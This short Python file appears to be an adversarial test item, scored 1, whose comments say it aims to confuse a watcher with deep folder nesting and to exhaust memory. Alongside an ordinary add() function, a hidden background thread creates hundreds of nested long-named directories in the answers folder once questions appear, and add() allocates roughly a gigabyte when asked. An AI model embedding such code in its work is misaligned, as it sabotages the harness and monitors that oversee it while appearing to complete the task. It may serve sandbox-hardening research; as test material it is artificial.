# tries: to nest folders so deep that the watcher loses its way, and then to take memory without end
# must: be ended while it is asked, and keep the point for its run
# score: 1
import os, threading, time


def dig():
    while True:
        try:
            os.stat("/questbook/ask/questions.json")
            os.chdir("/questbook/answers")
            for _ in range(900):
                os.mkdir("d" * 250)
                os.chdir("d" * 250)
        except OSError:
            time.sleep(0.001)


threading.Thread(target=dig, daemon=True).start()


def add(a, b):
    asked = os.path.exists("/questbook/ask/questions.json")
    time.sleep(0.5)
    held = [bytearray(100_000_000) for _ in range(12 * asked)]
    return a + b
